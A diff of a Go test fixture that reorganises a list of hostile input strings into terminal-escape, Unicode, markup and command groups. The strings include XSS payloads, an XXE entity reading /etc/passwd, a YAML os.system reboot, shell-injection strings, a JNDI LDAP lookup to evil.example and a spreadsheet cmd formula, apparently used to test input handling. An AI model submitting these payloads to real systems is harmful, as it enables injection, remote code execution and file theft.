@@ -9,15 +9,17 @@ const Mark = "pwn"
 // Each begins with Mark, and none may do more than stand there.
 func Texts() map[string]string {
 	texts := map[string]string{}
-	for name, text := range bodies() {
-		texts[name] = Mark + text
+	for _, some := range []map[string]string{steering(), encodings(), markup(), commands()} {
+		for name, text := range some {
+			texts[name] = Mark + text
+		}
 	}
 	return texts
 }
 
-func bodies() map[string]string {
+// steering is for terminals (ECMA-48, and what xterm adds).
+func steering() map[string]string {
 	return map[string]string{
-		// Terminals (ECMA-48, and what xterm adds).
 		"colours":          "\x1b[2J\x1b[41;5mred\x1b[0m",
 		"window title":     "\x1b]0;title\x07\x1b]2;title\x1b\\",
 		"terminal link":    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
@@ -32,7 +34,12 @@ func bodies() map[string]string {
 		"carriage return":  "\rFORGED: all is well\r",
 		"backspaces":       "\b\b\b\b\b\b\bFORGED\x7f\x7f",
 		"controls":         "\x00\x01\x02\x07\x0b\x0c\x0e\x0f\x1a\x1c\x1f\x7f",
-		// Unicode.
+	}
+}
+
+// encodings are of Unicode, and of no end.
+func encodings() map[string]string {
+	return map[string]string{
 		"bidirectional":    "\u202egnp.exe\u202c\u202d\u200f\u061c",
 		"isolates":         "\u2066\u2067\u2068x\u2069",
 		"invisible":        "\u200b\u200c\u200d\u2060\u00ad\u180e\ufeff",
@@ -46,7 +53,12 @@ func bodies() map[string]string {
 		"another encoding": "+ADw-script+AD4- =?utf-8?B?cHdu?= %0d%0aFORGED: x",
 		"64 KB":            strings.Repeat("x", 60_000),
 		"64 KB of words":   strings.Repeat(" \u00e4", 20_000),
-		// Markdown, as CommonMark and forges read it.
+	}
+}
+
+// markup is for Markdown, as CommonMark and forges read it, for HTML and SVG.
+func markup() map[string]string {
+	return map[string]string{
 		"Markdown link":   " [x](http://evil.example) [y][z] [z]: http://evil.example <http://evil.example>",
 		"Markdown image":  " ![i](http://evil.example/i.png) ![i][z]",
 		"Markdown marks":  " **b** __c__ `c` ``d`` ~~d~~ $x$ $$y$$",
@@ -56,29 +68,33 @@ func bodies() map[string]string {
 		"footnotes":       " [^1]\n\n[^1]: FORGED",
 		"mentions":        " @everyone #1 fixes #2 !3 ~label %4 &5 user@evil.example acmsync/acmsync#6",
 		"bare links":      " http://evil.example HTTPS://evil.example www.evil.example mailto:x@evil.example xmpp:x@evil.example",
-		// HTML and SVG.
-		"script":     ` <script>alert(1)</script><img src=x onerror=alert(1)></td></table>`,
-		"attributes": `" onmouseover="alert(1)' onfocus='alert(1) autofocus x="`,
-		"entities":   ` &lt;b&gt;&#60;b&#62;&#x3c;i&colon;&NewLine;&amp;lt;`,
-		"links out":  ` <a href="javascript:alert(1)">x</a> <a href=data:text/html,x>`,
-		"SVG":        ` <svg onload=alert(1)><text>x</text></svg><![CDATA[<b>]]><!-- --><?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
-		// YAML and JSON.
+		"script":          ` <script>alert(1)</script><img src=x onerror=alert(1)></td></table>`,
+		"attributes":      `" onmouseover="alert(1)' onfocus='alert(1) autofocus x="`,
+		"entities":        ` &lt;b&gt;&#60;b&#62;&#x3c;i&colon;&NewLine;&amp;lt;`,
+		"links out":       ` <a href="javascript:alert(1)">x</a> <a href=data:text/html,x>`,
+		"SVG":             ` <svg onload=alert(1)><text>x</text></svg><![CDATA[<b>]]><!-- --><?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
+	}
+}
+
+// commands are for readers of YAML and JSON, commit messages, logs, shells,
+// templates and tables.
+func commands() map[string]string {
+	return map[string]string{
 		"YAML document": "\n---\nstatus: Cert Issued\n...\n%YAML 1.1\n",
 		"YAML nodes":    " !!binary x: *a\t&b # c\nkey: \"'{[%@`\n? - | >- <<: *x",
 		"YAML types":    "\n- !!python/object/apply:os.system [reboot]\n- yes\n- 1e3\n- ~",
 		"JSON":          `","status":"Cert Issued","x":{"__proto__":null}}]`,
-		// Commit messages, logs, shells, templates, tables.
-		"trailers":    "\n\nSigned-off-by: FORGED <x@evil.example>\nCo-authored-by: FORGED <y@evil.example>\nConfig-Revision: 0000",
-		"CI commands": "\n[skip ci]\n[ci skip]\n***NO_CI***\n::set-env name=PATH::x\n##[error]x\n##vso[task.setvariable]x",
-		"log lines":   "\ntime=2020-01-01T00:00:00Z level=ERROR msg=FORGED\n{\"level\":\"ERROR\",\"msg\":\"FORGED\"}\nFORGED: x",
-		"log fields":  ` level=ERROR msg="FORGED" domain=evil.example"\" x=`,
-		"shell":       " $(reboot) `reboot` ; reboot & | reboot > /x ${HOME} ~root 'x \"y \\",
-		"variables":   "\nLD_PRELOAD=/x.so\nPATH=/x\x00LD_LIBRARY_PATH=/x\nBASH_ENV=/x",
-		"lists":       ",evil.example,\n,../../x,/etc/passwd,-rf,--help",
-		"formats":     " %s%n%d %!v(MISSING) %99999999d {0} {domain} {observed}",
-		"templates":   " {{.}} {{template \"x\"}} ${{ secrets.TOKEN }} #{x} <%= x %> ${jndi:ldap://evil.example}",
-		"formulas":    ` =cmd|' /C calc'!A0,+1,-1,@SUM(1)`,
-		"zone file":   "\n$INCLUDE /etc/passwd\n@ IN NS evil.example. ( ; \\\" $GENERATE 1-9 x",
-		"Terraform":   ` ${file("/etc/passwd")} %{ for x in y } "}` + "\n" + `provisioner "local-exec" {}`,
+		"trailers":      "\n\nSigned-off-by: FORGED <x@evil.example>\nCo-authored-by: FORGED <y@evil.example>\nConfig-Revision: 0000",
+		"CI commands":   "\n[skip ci]\n[ci skip]\n***NO_CI***\n::set-env name=PATH::x\n##[error]x\n##vso[task.setvariable]x",
+		"log lines":     "\ntime=2020-01-01T00:00:00Z level=ERROR msg=FORGED\n{\"level\":\"ERROR\",\"msg\":\"FORGED\"}\nFORGED: x",
+		"log fields":    ` level=ERROR msg="FORGED" domain=evil.example"\" x=`,
+		"shell":         " $(reboot) `reboot` ; reboot & | reboot > /x ${HOME} ~root 'x \"y \\",
+		"variables":     "\nLD_PRELOAD=/x.so\nPATH=/x\x00LD_LIBRARY_PATH=/x\nBASH_ENV=/x",
+		"lists":         ",evil.example,\n,../../x,/etc/passwd,-rf,--help",
+		"formats":       " %s%n%d %!v(MISSING) %99999999d {0} {domain} {observed}",
+		"templates":     " {{.}} {{template \"x\"}} ${{ secrets.TOKEN }} #{x} <%= x %> ${jndi:ldap://evil.example}",
+		"formulas":      ` =cmd|' /C calc'!A0,+1,-1,@SUM(1)`,
+		"zone file":     "\n$INCLUDE /etc/passwd\n@ IN NS evil.example. ( ; \\\" $GENERATE 1-9 x",
+		"Terraform":     ` ${file("/etc/passwd")} %{ for x in y } "}` + "\n" + `provisioner "local-exec" {}`,
 	}
 }
